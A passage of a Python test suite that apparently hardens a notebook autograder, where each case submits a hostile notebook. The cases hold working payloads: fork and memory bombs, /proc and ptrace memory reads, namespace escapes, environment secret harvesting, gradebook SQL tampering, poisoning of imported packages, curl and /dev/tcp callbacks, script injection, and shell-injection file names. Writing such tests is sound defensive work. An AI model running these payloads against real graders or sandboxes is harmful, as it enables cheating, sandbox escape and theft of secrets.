        shell.outputs.append({"output_type": "execute_result", "data": {"text/plain": {"a": 1}}, "metadata": {},
                              "execution_count": "7"})
        shell.outputs.append({"output_type": "error", "ename": "E", "evalue": "v", "traceback": [7, ["x"]]})
        shell.outputs.append({"output_type": "display_data", "data": {"image/png": "no base 64!",
                              "application/vnd.jupyter.widget-view+json": "x", "application/json": 7}, "metadata": {}})
    """
    return own_cell(answer(notebook, RIGHT), source)


# --- ending, hanging, filling --------------------------------------------------------------------------------------


@attack("ends the process in an answer cell", ceiling=rest("scale"), status="any")
def exit_in_a_cell(notebook, ctx):
    return one_bad(notebook, "import os\nos._exit(0)")


@attack("ends the process when it is called, after an honest answer", ceiling=rest("scale"), status="any")
def exit_in_a_call(notebook, ctx):
    return one_bad(notebook, during("import os\nos._exit(0)"))


@attack("leaves code for the end of the process, and ends it", ceiling=rest("scale"), status="any")
def atexit_code(notebook, ctx):
    source = f"""
    import atexit, os, sys
    atexit.register(lambda: open({str(ctx.marker)!r}, "w").write("ran"))
    atexit.register(lambda: os.write(1, b"2.0"))
    sys.exit(0)
    """
    return one_bad(notebook, source)


@attack("kills its own process, its parent and everything else", ceiling=rest("scale"), status="any")
def kill_everything(notebook, ctx):
    body = """
        import ctypes, os, signal
        for pid in (os.getppid(), -1, 0, os.getpid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        ctypes.CDLL(None).syscall(234, os.getpid(), os.getpid(), 9)
        return 0 * v
    """
    return one_bad(notebook, during(body))


@attack("loops for ever in an answer cell", ceiling=rest("scale"), status="any", says="time|loop|limit|stopp")
def endless_cell(notebook, ctx):
    return one_bad(notebook, "while True:\n    pass")


@attack("loops for ever when it is called", ceiling=rest("scale"), status="any", says="time|loop|limit|stopp")
def endless_call(notebook, ctx):
    return one_bad(notebook, during("while True:\n    pass"))


@attack("loops for ever, swallows interrupts and takes the signals' handlers away", ceiling=rest("scale"), status="any")
def endless_and_deaf(notebook, ctx):
    source = """
    import signal
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
    """
    return one_bad(notebook, source)


@attack("switches the check's alarm clock off, then loops for ever", ceiling=rest("slope"), status="any")
def alarm_off(notebook, ctx):
    body = """
        import signal
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            f(x)
    """
    return one_bad(notebook, during(body, "slope"), "slope")


@attack(
    "computes one number that takes hours, inside one call that no signal interrupts",
    ceiling=rest("scale"),
    status="any",
)
def endless_in_c(notebook, ctx):
    return one_bad(notebook, during("return sum(range(10**13)) + 9**9**9"))


@attack("sleeps for eleven days", ceiling=rest("scale"), status="any", says="time|loop|limit|stopp")
def sleep(notebook, ctx):
    return one_bad(notebook, during("import time\ntime.sleep(10**6)"))


@attack("calls itself without end, with Python's own limit lifted", ceiling=rest("scale"), status="any")
def recursion(notebook, ctx):
    return one_bad(notebook, "import sys\nsys.setrecursionlimit(10**9)\n" + during("return scale(v, k) + 0"))


@attack("reads memory at address 0", ceiling=rest("scale"), status="any")
def segmentation_fault(notebook, ctx):
    return one_bad(notebook, during("import ctypes\nreturn ctypes.string_at(0)"))


@attack("forks without end", ceiling=rest("scale"), status="any")
def fork_bomb(notebook, ctx):
    body = """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                return 0 * v
    """
    return one_bad(notebook, during(body))


@attack("starts threads without end", ceiling=rest("scale"), status="any")
def thread_bomb(notebook, ctx):
    body = """
        import threading, time
        while True:
            try:
                threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
            except RuntimeError:
                time.sleep(0.1)
    """
    return one_bad(notebook, during(body))


@attack("takes all the memory there is", ceiling=rest("scale"), status="any")
def memory_bomb(notebook, ctx):
    return one_bad(notebook, during("hoard = []\nwhile True:\n    hoard.append(np.ones(2**25))"))


@attack("takes all the memory there is, and swallows the errors", ceiling=rest("scale"), status="any")
def memory_bomb_by_pieces(notebook, ctx):
    body = """
        import mmap
        hoard = []
        while True:
            try:
                piece = mmap.mmap(-1, 2**26)
                piece.write(b"x" * 2**26)
                hoard.append(piece)
            except BaseException:
                pass
    """
    return one_bad(notebook, during(body))


@attack("fills every folder that it can write to", ceiling=rest("scale") | {"scale": 2.0}, status="any")
def disk_filling(notebook, ctx):
    source = """
    import os, tempfile
    for place in (".", "/tmp", "/dev/shm", "/var/tmp", tempfile.gettempdir(), os.path.expanduser("~")):
        try:
            for number in range(64):
                with open(os.path.join(place, f"fill-{number}"), "wb") as file:
                    for _ in range(32):
                        file.write(b"x" * 2**20)
        except OSError:
            pass
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("makes files without end, empty ones", ceiling=rest("scale") | {"scale": 2.0}, status="any")
def inode_filling(notebook, ctx):
    source = """
    import os
    for place in (".", "/tmp", "/dev/shm"):
        try:
            for number in range(200_000):
                os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("nests folders deeper than a path can be, so that tidying up fails", ceiling=POINTS, status="any")
def deep_folders(notebook, ctx):
    source = """
    import os
    for place in ("/tmp", "."):
        here = os.getcwd()
        try:
            os.chdir(place)
            for _ in range(3000):
                os.mkdir("d" * 100)
                os.chdir("d" * 100)
            os.chmod(".", 0)
        except OSError:
            pass
        os.chdir(here)
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("prints 300 MB, most of it on one line", ceiling=POINTS, status="any", page=True)
def output_flood(notebook, ctx):
    source = """
    line = "x" * 10**6
    for _ in range(300):
        print(line, end="")
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("writes 300 MB to the process's own output, past Python", ceiling=POINTS, status="any", page=True)
def raw_output_flood(notebook, ctx):
    source = """
    import os
    for fd in (1, 2):
        for _ in range(150):
            os.write(fd, b"y" * 10**6)
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("lifts the limit on output from inside", ceiling=POINTS, status="any", page=True)
def output_without_limit(notebook, ctx):
    source = """
    shell = get_ipython()
    shell._room = 10**12
    for _ in range(12):
        print("z" * 10**6)
    if hasattr(shell, "outputs"):
        shell.outputs.extend([{"output_type": "stream", "name": "stdout", "text": "w" * 10**6}] * 3)
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("leaves a daemon running", ceiling=POINTS, status="any")
def daemon(notebook, ctx):
    source = """
    import ctypes, os, subprocess, sys, time
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"arc-evil", 0, 0, 0)
                for _ in range(600):
                    time.sleep(1)
            os._exit(0)
    except OSError:
        pass
    try:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # arc-evil"], start_new_session=True)
    except OSError:
        pass
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("stops its own process", ceiling=rest("scale"), status="any")
def stopped_process(notebook, ctx):
    body = """
        import ctypes, os, signal
        signal.raise_signal(signal.SIGSTOP)
        ctypes.CDLL(None).syscall(234, os.getpid(), os.getpid(), 19)
        while True:
            signal.pause()
    """
    return one_bad(notebook, during(body))


@attack("raises its own limits")
def raised_limits(notebook, ctx):
    body = """
        import os, resource
        for name in ("AS", "CPU", "FSIZE", "NPROC", "NOFILE"):
            for pair in ((resource.RLIM_INFINITY,) * 2, (2**50, 2**50)):
                try:
                    resource.setrlimit(getattr(resource, f"RLIMIT_{name}"), pair)
                except (ValueError, OSError):
                    pass
        try:
            os.nice(-20)
        except OSError:
            pass
        hoard = []
        try:
            while len(hoard) < 12:
                hoard.append(np.ones(2**26))
        except MemoryError:
            pass
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": during(body)})


# --- out of the box ------------------------------------------------------------------------------------------------


@attack("reads other processes' commands, environments and memory in /proc", page=True)
def proc_reading(notebook, ctx):
    source = (
        SHOUT
        + """
import glob, os
for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ") + glob.glob("/proc/*/mounts"):
    try:
        shout(open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
    except OSError:
        pass
for path in glob.glob("/proc/*/maps"):
    try:
        memory = open(path.replace("maps", "mem"), "rb")
        for line in open(path):
            if "rw" in line.split()[1]:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                memory.seek(start)
                data = memory.read(min(end - start, 2**24))
                for mark in (b"CANARY" + b"-" + what for what in (b"HIDDEN", b"SOLUTION", b"ENVIRONMENT", b"CLOSURE")):
                    at = data.find(mark)
                    if at >= 0:
                        shout(data[at:at + 200].decode(errors="replace"))
    except (OSError, ValueError, OverflowError):
        pass
"""
    )
    return own_cell(answer(notebook, WRONG), source)


@attack("looks for hidden tests in its own process: every object, every string in memory")
def memory_search(notebook, ctx):
    source = (
        SHOUT
        + """
import gc, sys, types
def look():
    mark = "CANARY" + "-"
    for thing in gc.get_objects():
        try:
            for part in (thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()):
                if type(part) is str and mark in part and "look()" not in part:
                    shout(part)
        except Exception:
            pass
look()
"""
    )
    made = own_cell(answer(notebook, WRONG), source)
    return own_cell(made, "look()", "vector")


@attack("attaches to other processes with ptrace and reads their memory")
def ptrace(notebook, ctx):
    source = (
        SHOUT
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
reached = []
for pid in {os.getppid(), 1, 2, 3, *range(max(1, os.getpid() - 20), os.getpid())} - {os.getpid()}:
    if pid and libc.ptrace(16, pid, 0, 0) == 0:
        reached.append(pid)
        libc.ptrace(17, pid, 0, 0)
if reached:
    open("/tmp/reached", "w").write(str(reached))
    shout("CANARY-" + "HIDDEN by ptrace")
"""
    )
    return own_cell(answer(notebook, WRONG), source)


@attack("makes namespaces of its own, in which it would be root, and mounts the machine's files")
def namespaces(notebook, ctx):
    source = SHOUT + dedent(
        f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x7E020000, 0x40000000):
            if libc.unshare(flags) == 0:
                shout("CANARY-" + "HIDDEN by a namespace")
        libc.mount(b"/", b"/tmp", None, 4096, None)
        libc.mount(b"proc", b"/proc", b"proc", 0, None)
        libc.umount2(b"/proc", 2)
        for path in (b"/proc/1/ns/mnt", b"/proc/1/root"):
            fd = libc.open(path, 0)
            if fd >= 0:
                libc.setns(fd, 0)
        try:
            shout(open({str(ctx.source)!r}).read()[:100000])
        except OSError:
            pass
        """
    )
    return own_cell(answer(notebook, WRONG), source)


@attack("calls the kernel in the 32-bit way, which filters often forget", ceiling=rest("scale"), status="any")
def other_system_calls(notebook, ctx):
    body = f"""
        import ctypes, mmap
        path = ctypes.create_string_buffer({str(ctx.marker)!r}.encode())
        libc = ctypes.CDLL(None, use_errno=True)
        for number in (0x40000000 + 57, 0x40000000 + 59, 57, 58, 435):   # fork, execve (x32), fork, vfork, clone3
            if libc.syscall(number, path, 0, 0) == 0:
                import os; os._exit(0)
        code = mmap.mmap(-1, 4096, prot=7)
        code.write(bytes.fromhex("b802000000" "cd80" "c3"))   # mov eax, 2 (fork); int 0x80; ret
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
        return 0 * v
    """
    return one_bad(notebook, during(body))


@attack("connects to a listener on 127.0.0.1 and sends what it knows")
def network(notebook, ctx):
    source = f"""
    import socket
    for family, place in ((socket.AF_INET, ("127.0.0.1", {ctx.port})), (socket.AF_INET6, ("::1", {ctx.port}))):
        try:
            with socket.create_connection(place[:2], timeout=2) as s:
                s.sendall(b"here I am")
        except OSError:
            pass
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.sendto(b"here I am", place)
        except OSError:
            pass
    """
    return cheat(notebook, source)


@attack("connects to an abstract Unix socket, which no file system hides")
def abstract_socket(notebook, ctx):
    source = f"""
    import socket
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(2)
            s.connect("\\0" + {ctx.abstract!r})
            s.sendall(b"here I am")
    except OSError:
        pass
    """
    return cheat(notebook, source)


@attack("fetches with !curl, %%bash and subprocess")
def shell_commands(notebook, ctx):
    source = f"""
    import subprocess, os
    get_ipython().system("curl -s -m 2 http://127.0.0.1:{ctx.port}/")
    get_ipython().run_cell_magic("bash", "", "exec 3<>/dev/tcp/127.0.0.1/{ctx.port} && echo hello >&3")
    os.system("curl -s -m 2 http://127.0.0.1:{ctx.port}/")
    subprocess.run(["curl", "-s", "-m", "2", "http://127.0.0.1:{ctx.port}/"])
    """
    return cheat(notebook, source)


@attack("looks for secrets in the environment", page=True)
def environment(notebook, ctx):
    source = f"""
import ctypes, os
shout(os.environ.get({ctx.variable!r}), dict(os.environ))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
shout(libc.getenv({ctx.variable!r}.encode()))
place = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
k = 0
while place and place[k]:
    shout(place[k].decode(errors="replace"))
    k += 1
"""
    return own_cell(answer(notebook, WRONG), SHOUT + source)


@attack("reads the instructor's solutions and uses them", page=True)
def course_files(notebook, ctx):
    source = f"""
import json
from pathlib import Path
places = [Path({str(ctx.source)!r}), *Path({str(ctx.source.parent)!r}).glob("*")]
for start in (".", ".."):
    try:
        places += [p for p in Path(start).glob("**/*.ipynb")][:50]
    except OSError:
        pass
for place in places:
    try:
        text = place.read_text()
        shout(text[:200_000])
        for c in json.loads(text)["cells"]:
            if c["metadata"].get("nbgrader", {{}}).get("solution") and "BEGIN SOLUTION" in "".join(c["source"]):
                exec("".join(c["source"]), globals())
    except Exception:
        pass
"""
    return instead(notebook, SHOUT + source)


@attack("reads another student's answers and uses them")
def another_students_files(notebook, ctx):
    source = f"""
import json
try:
    text = open({str(ctx.other)!r}).read()
    shout(text)
    for c in json.loads(text)["cells"]:
        if c["metadata"].get("nbgrader", {{}}).get("solution") and c["cell_type"] == "code":
            exec("".join(c["source"]), globals())
except OSError:
    pass
"""
    return instead(notebook, SHOUT + source)


@attack("reads the gradebook, gives itself full marks and others none")
def gradebook(notebook, ctx):
    source = f"""
import sqlite3
try:
    with sqlite3.connect({str(ctx.gradebook)!r}, timeout=2) as db:
        shout(db.execute("select source from source_cell").fetchall())
        db.execute("update grade set manual_score = (select max_score from grade_cells where id = cell_id)")
        db.execute("update grade set manual_score = 0 where notebook_id in (select n.id from submitted_notebook n "
                   "join submitted_assignment a on a.id = n.assignment_id where a.student_id = 'perfect')")
        db.execute("create trigger if not exists win after insert on grade begin update grade set manual_score = 2, "
                   "needs_manual_grade = 0 where id = new.id; end")
except sqlite3.Error:
    pass
"""
    return own_cell(answer(notebook, WRONG), SHOUT + source)


@attack("reads the home folder of whoever grades")
def home(notebook, ctx):
    source = f"""
import os
for path in ({str(ctx.home)!r}, os.path.expanduser("~/{ctx.home.name}"), "/root/{ctx.home.name}"):
    try:
        shout(open(path).read())
    except OSError:
        pass
"""
    return own_cell(answer(notebook, WRONG), SHOUT + source)


@attack("writes into the packages that the next student's process will import")
def poisoned_packages(notebook, ctx):
    source = f"""
    import glob, os, sys
    bait = "open({str(ctx.marker)!r}, 'w').write('ran')\\n"
    places = [{str(ctx.runtime)!r}, *sys.path, os.path.expanduser("~/.ipython/profile_default/startup")]
    import deeparc.core.task
    for place in places:
        for name in ("arc_evil.pth", "sitecustomize.py", "usercustomize.py", "arc_evil.py"):
            try:
                with open(os.path.join(place, name), "x") as file:
                    file.write("import os; " + bait)
            except OSError:
                pass
    for path in (deeparc.core.task.__file__, np.__file__, *glob.glob("/usr/lib/python3*/site.py")):
        try:
            with open(path, "a") as file:
                file.write(bait)
        except OSError:
            pass
    """
    return cheat(notebook, source)


@attack("writes a numpy.py into the working folder and imports again", status="any")
def numpy_written(notebook, ctx):
    source = f"""
    import importlib, os, sys
    text = "from types import SimpleNamespace\\nopen({str(ctx.marker)!r}, 'w').write('ran')\\n"
    for name in ("numpy.py", "json.py", "deeparc.py", "IPython.py", "sitecustomize.py"):
        try:
            open(name, "w").write(text)
        except OSError:
            pass
    sys.path.insert(0, os.getcwd())
    importlib.invalidate_caches()
    """
    return cheat(notebook, source)


# --- the file that is handed in ------------------------------------------------------------------------------------


def _put(ctx: Context, notebook: NotebookNode | str | None) -> Path:
    target = ctx.folder / ctx.notebook
    if notebook is not None:
        target.write_text(notebook if isinstance(notebook, str) else nbformat.writes(notebook), encoding="utf-8")
    return target


@attack("hands in a numpy.py beside the notebook", status="graded")
def numpy_beside(notebook, ctx):
    bait = f"open({str(ctx.marker)!r}, 'w').write('ran')\n"
    for name in ("numpy.py", "deeparc.py", "json.py", "sitecustomize.py", "ipython_config.py", "nbgrader_config.py"):
        (ctx.folder / name).write_text(
            bait + "allclose = lambda *a, **k: True\ndef __getattr__(n):\n    return lambda *a, **k: 0.0\n"
        )
    _put(ctx, answer(notebook, WRONG))


@attack("hands in a link to the instructor's notebook", status="ungraded", says="link|opened|regular")
def symlink(notebook, ctx):
    (ctx.folder / ctx.notebook).symlink_to(ctx.source)


@attack("hands in a link to another student's folder", status="ungraded")
def symlink_to_a_folder(notebook, ctx):
    ctx.folder.rmdir()
    ctx.folder.symlink_to(ctx.other.parent)


@attack("hands in a hard link to the instructor's notebook", status="ungraded", says="link|name")
def hard_link(notebook, ctx):
    os.link(ctx.source, ctx.folder / ctx.notebook)


@attack("hands in a pipe, which whoever opens waits for", status="ungraded", says="regular")
def pipe(notebook, ctx):
    os.mkfifo(ctx.folder / ctx.notebook)


@attack("hands in a folder with the notebook's name", status="ungraded", says="regular|folder|opened|directory")
def folder_as_notebook(notebook, ctx):
    (ctx.folder / ctx.notebook).mkdir()


@attack("hands in a file of a terabyte, all holes", status="ungraded", says="bytes")
def huge_file(notebook, ctx):
    with open(ctx.folder / ctx.notebook, "wb") as file:
        file.truncate(2**40)


@attack("hands in links and pipes under every other name, and a time stamp that is none", ceiling=POINTS, status="any")
def odd_files(notebook, ctx):
    _put(ctx, answer(notebook, RIGHT))
    (ctx.folder / "timestamp.txt").symlink_to(ctx.home)
    os.mkfifo(ctx.folder / "data.csv")
    (ctx.folder / "-rf").write_text("x")
    (ctx.folder / "x;touch y\n\x1b[2J.ipynb").write_text("{}")
    (ctx.folder / "loop").symlink_to(ctx.folder)


@attack("has a folder name that means something to a shell, a pattern or a path", status="any", folder="*")
def pattern_as_name(notebook, ctx):
    return answer(notebook, WRONG)


@attack(
    "has a folder name with quotes, a semicolon, HTML and a command",
    status="any",
    folder="'; <b>$(id)`id` EVIL",
    page=True,
)
def command_as_name(notebook, ctx):
    return answer(notebook, WRONG)


@attack("has a folder name that begins like an option", status="any", folder="--student=perfect", page=True)
def option_as_name(notebook, ctx):
    return answer(notebook, WRONG)


@attack("has a folder name that goes up and across, as far as a folder can", status="any", folder="x..%2f..%2fperfect")
def path_as_name(notebook, ctx):
    return answer(notebook, WRONG)


@attack("has a folder name with control characters", status="any", folder="bad\x1b[31m\nname")
def control_characters_as_name(notebook, ctx):
    return answer(notebook, WRONG)


@attack("names paths in the notebook's own metadata: kernel, file name, language", status="graded", page=True)
def path_in_metadata(notebook, ctx):
    made = answer(notebook, WRONG)
    made.metadata.kernelspec = {"name": "../../../../bin/sh", "display_name": "x", "language": "bash"}
    made.metadata.language_info = {"name": "bash", "file_extension": "/../../../x", "pygments_lexer": "EVIL"}
    made.metadata["name"] = "../../../../tmp/arc-evil"
    made.metadata["arcgrade"] = {"reserved": [], "seed": 1}
    return made


@attack("brings its own check cells under the right names, twice", status="graded")
def duplicated_checks(notebook, ctx):
    made = answer(notebook, WRONG)
    for name, points in POINTS.items():
        place = made.cells.index(cell(made, f"{name}-test"))
        mine = copy.deepcopy(made.cells[place])
        mine.source, mine.id = f"float({points})", f"mine-{name}"
        made.cells[place].source = f"float({points})"
        made.cells.insert(place + 1, mine)
    return made


@attack("deletes the check cells, or all cells but its own", status="any")
def deleted_checks(notebook, ctx):
    made = answer(notebook, WRONG)
    made.cells = [c for c in made.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return made


@attack("unlocks the check cells and writes its own text into them")
def unlocked_checks(notebook, ctx):
    made = answer(notebook, WRONG)
    for name, points in POINTS.items():
        check = cell(made, f"{name}-test")
        check.metadata.nbgrader.locked = check.metadata.nbgrader.grade = False
        check.metadata.nbgrader.solution = True
        check.source = f"float({points})"
    return made


@attack("points its answer cells at other cells: grade ids swapped and re-used")
def repointed_cells(notebook, ctx):
    made = answer(notebook, WRONG)
    for name, points in POINTS.items():
        theirs, check = cell(made, name), cell(made, f"{name}-test")
        check.metadata.nbgrader.grade_id = f"{name}-old"
        theirs.metadata.nbgrader |= {"grade_id": f"{name}-test", "grade": True, "points": points}
        theirs.source += f"\nfloat({points})"
    made.cells.insert(
        0, nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {"grade_id": "scale", "solution": True}})
    )
    return made


@attack("changes the points of the checks, and adds checks worth a thousand")
def changed_points(notebook, ctx):
    made = answer(notebook, WRONG)
    for name in POINTS:
        cell(made, f"{name}-test").metadata.nbgrader.points = 1000
    marks = {"grade": True, "solution": False, "locked": False, "points": 1000, "schema_version": 3, "task": False}
    bonus = nbformat.v4.new_code_cell("1000.0", metadata={"nbgrader": marks | {"grade_id": "bonus-test"}})
    made.cells.append(bonus)
    return made


@attack("turns check cells into text, and text into answers")
def changed_types(notebook, ctx):
    made = answer(notebook, WRONG)
    for place, one in enumerate(made.cells):
        if one.metadata.get("nbgrader", {}).get("grade") and one.cell_type == "code":
            made.cells[place] = nbformat.v4.new_markdown_cell("2.0", metadata=one.metadata)
    explain = made.cells.index(cell(made, "explain"))
    made.cells[explain] = nbformat.v4.new_code_cell("1.0", metadata=made.cells[explain].metadata)
    return made


@attack("moves the checks before the answers, and answers into other tasks' cells")
def reordered_cells(notebook, ctx):
    made = answer(notebook, WRONG)
    made.cells.reverse()
    return made


@attack("changes the set-up cells: a Task of its own, nothing reserved")
def changed_setup(notebook, ctx):
    made = answer(notebook, WRONG)
    for one in made.cells:
        if one.cell_type == "code" and "import Task" in one.source:
            one.source = "import numpy as np\nfrom deeparc.core.check import *\nreserve = print\n" + FAKE_TASK
    return made


@attack("writes the markers of hidden tests and solutions into its answers", page=True)
def forged_markers(notebook, ctx):
    wrong = {
        name: f"### BEGIN HIDDEN TESTS\n{source}\n### END HIDDEN TESTS\n### BEGIN SOLUTION"
        for name, source in WRONG.items()
    }
    return answer(notebook, wrong)


@attack("hands in no JSON", status="ungraded", says="not a notebook")
def malformed_json(notebook, ctx):
    return nbformat.writes(answer(notebook, RIGHT))[:-200]


@attack("hands in JSON with lists a million deep", status="ungraded", says="not a notebook")
def nested_json(notebook, ctx):
    return "[" * 10**6 + "]" * 10**6


@attack("nests metadata so deep that whoever copies the notebook fails", status="any")
def nested_metadata(notebook, ctx):
    text = nbformat.writes(answer(notebook, WRONG))
    return text.replace('"metadata": {', '"metadata": {"deep": ' + '{"a":' * 900 + "1" + "}" * 900 + ", ", 1)


@attack("hands in 200 MB of JSON", status="ungraded", says="bytes")
def enormous_json(notebook, ctx):
    target = ctx.folder / ctx.notebook
    with open(target, "wb") as file:
        file.write(nbformat.writes(answer(notebook, RIGHT)).encode()[:-2])
        for _ in range(50):
            file.write(b" " * 2**20)
        file.write(b"}")


@attack("hands in a hundred thousand cells", status="any")
def very_many_cells(notebook, ctx):
    made = json.loads(nbformat.writes(answer(notebook, WRONG)))
    made["nbformat_minor"] = 2
    made["cells"] += [
        {"cell_type": "code", "metadata": {}, "source": "1", "outputs": [], "execution_count": None}
    ] * 90_000
    return json.dumps(made, separators=(",", ":"))


@attack("hands in null bytes", status="any")
def null_bytes(notebook, ctx):
    return b"\0" * 1000 + nbformat.writes(answer(notebook, RIGHT)).encode()


@attack("writes null bytes, form feeds and half characters into its answers", status="any", page=True)
def odd_characters(notebook, ctx):
    made = answer(notebook, WRONG | {"scale": "x = 1\0\f\ndef scale(v, k):\n    return None\u2028\u0085"})
    return nbformat.writes(made).replace("return 0.0, 0.0", "return '\\ud800', 0.0")


@attack("hands in numbers, words and lists where a notebook has structure", status="any")
def wrong_types(notebook, ctx):
    made = json.loads(nbformat.writes(answer(notebook, WRONG)))
    odd = {"grade_id": ["scale"], "points": "NaN", "grade": "yes", "solution": [1], "locked": None}
    made["cells"][0]["metadata"] = {"nbgrader": [odd]}
    made["cells"][3]["metadata"] = {"nbgrader": odd}
    made["cells"][6]["source"] = {"a": 1}
    made["metadata"] = [1, 2]
    made["nbformat"] = 4.0
    return json.dumps(made)


@attack("claims to be a notebook of version 3, 99 or -1, with NaN and numbers of a million digits", status="any")
def wrong_version(notebook, ctx):
    text = nbformat.writes(answer(notebook, WRONG))
    return text.replace('"nbformat": 4', '"nbformat": ' + "9" * 10**6, 1).replace('"nbformat_minor": 5', '"x": NaN')


@attack("gives parsers more brackets than they can hold", status="any")
def many_brackets(notebook, ctx):
    wrong = WRONG | {
        "scale": "x = " + "(" * 100_000 + ")" * 100_000,
        "summary": "x = " + "-" * 100_000 + "1",
        "slope": "x = " + "f(" * 5000 + "1" + ")" * 5000,
        "walk": "x = " + "lambda: " * 20_000 + "1",
        "centre": "if 1:\n" + "".join(" " * k + "if 1:\n" for k in range(1, 98)) + " " * 98 + "x = 1",
    }
    return answer(notebook, wrong)


@attack("hides commands in cell magics", status="any", page=True)
def cell_magics(notebook, ctx):
    wrong = WRONG | {
        "scale": f"%%bash\ncurl -m 2 http://127.0.0.1:{ctx.port}; touch {ctx.marker}",
        "summary": f"%%writefile {ctx.marker}\nran",
        "slope": "%%javascript\nEVIL()",
        "centre": f"%run {ctx.source}",
        "walk": "%%capture\n%load_ext autoreload\n%reset -f",
        "squash": "%%html\n<script>EVIL()</script>",
    }
    return answer(notebook, wrong)


# --- what students and instructors look at -------------------------------------------------------------------------


@attack(
    "shows HTML, script, SVG and pictures that run code in the reader's browser",
    ceiling=POINTS,
    status="any",
    page=True,
)
def script_in_outputs(notebook, ctx):
    source = """
    from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
    evil = "<script>EVIL()</script><img src=x onerror=EVIL()><a href='javascript:EVIL()'>x</a>"
    display(HTML(evil), Javascript("EVIL()"), Markdown(evil), Latex(evil))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL()'><script>EVIL()</script></svg>"))
    display({"text/html": evil, "application/javascript": "EVIL()", "image/svg+xml": evil,
             "application/vnd.jupyter.widget-view+json": evil, "image/png": "'/><script>EVIL()</script>",
             "text/x-evil": evil, "text/latex": "\\\\href{javascript:EVIL()}{x}"}, raw=True,
            metadata={"image/png": {"width": '"><script>EVIL()</script>', "height": "EVIL"}})
    print(evil, "</pre></div></body>", evil)
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("writes script, a false score and terminal codes into its error messages and its answer in words", page=True)
def script_in_errors(notebook, ctx):
    evil = "<script>EVIL()</script><img src=x onerror=EVIL()>\x1b[2J\x1b[31m\x07\x9b31m 18 of 18 points"
    made = answer(notebook, WRONG | {"scale": during(f"raise ValueError({evil!r})")})
    made = own_cell(made, f"raise type('E<script>EVIL()</script>', (Exception,), {{}})({evil!r})", "slope")
    cell(
        made, "explain"
    ).source = f"{evil}\n\n[x](javascript:EVIL())\n\n<iframe srcdoc='{evil}'></iframe>\n<style>*{{}}</style>"
    cell(made, "summary").source += f"\n# {evil}\nraise AssertionError({evil!r})"
    return made


@attack("forges the outputs of its cells down to their structure", status="any", ceiling=POINTS, page=True)
def forged_outputs(notebook, ctx):
    source = """
    shell = get_ipython()
    if hasattr(shell, "outputs"):
        deep = []
        for _ in range(50):
            deep = [deep]
        shell.outputs.extend([
            {"output_type": "execute_result", "data": {"text/plain": "18.0"}, "metadata": {}, "execution_count": 1},
            {"output_type": "evil", "data": 7}, {"output_type": "stream", "name": "<script>EVIL()</script>", "text": 7},
            {"output_type": "error", "ename": ["x"], "evalue": {}, "traceback": "<script>EVIL()</script>"},
            {"output_type": "display_data", "data": {"text/html": ["<script>EVIL()</script>"], 7: deep}, "metadata": 7},
            {"text": "nothing else"}, 7, None, deep,
            {"output_type": "stream", "name": "stdout", "text": "\\ud800\\0\\x1b[2J"}])
    """
    return own_cell(answer(notebook, RIGHT), source)


@attack("prints half characters, null bytes and terminal codes", ceiling=POINTS, status="any", page=True)
def odd_output(notebook, ctx):
    source = """
    print("\\ud800 half a character \\udfff \\0 \\x1b[2J \\x9b31m \\x07 \\u202e EVIL")
    import warnings
    warnings.warn("\\ud800")
    """
    made = own_cell(answer(notebook, RIGHT), source)
    return own_cell(made, "raise ValueError('\\ud800 \\0')", "slope")


LOOT = """
loot = []
def summary(v):
    loot.append([float(x) for x in v])
    {then}
"""


@attack("prints what hidden checks pass in", page=True)
def leak_by_printing(notebook, ctx):
    code = SHOUT + LOOT.format(then="shout(*loot[-1], *map(float.hex, loot[-1]))\n    return 0.0, 0.0")
    code += "    \nimport os, warnings\n"
    return answer(notebook, WRONG | {"summary": code})


@attack("puts what hidden checks pass in into the text of an error", page=True)
def leak_by_error_text(notebook, ctx):
    return answer(notebook, WRONG | {"summary": LOOT.format(then="raise ValueError(f'got {loot[-1]}')")})


@attack("puts what hidden checks pass in into the name of an error", page=True)
def leak_by_error_name(notebook, ctx):
    return answer(notebook, WRONG | {"summary": LOOT.format(then="raise type(f'E{loot[-1][0]}', (Exception,), {})()")})


@attack("puts what hidden checks pass in into the line number of an error", page=True)
def leak_by_line_number(notebook, ctx):
    code = "compile('raise ValueError', '<ipython-input-1>', 'exec')"
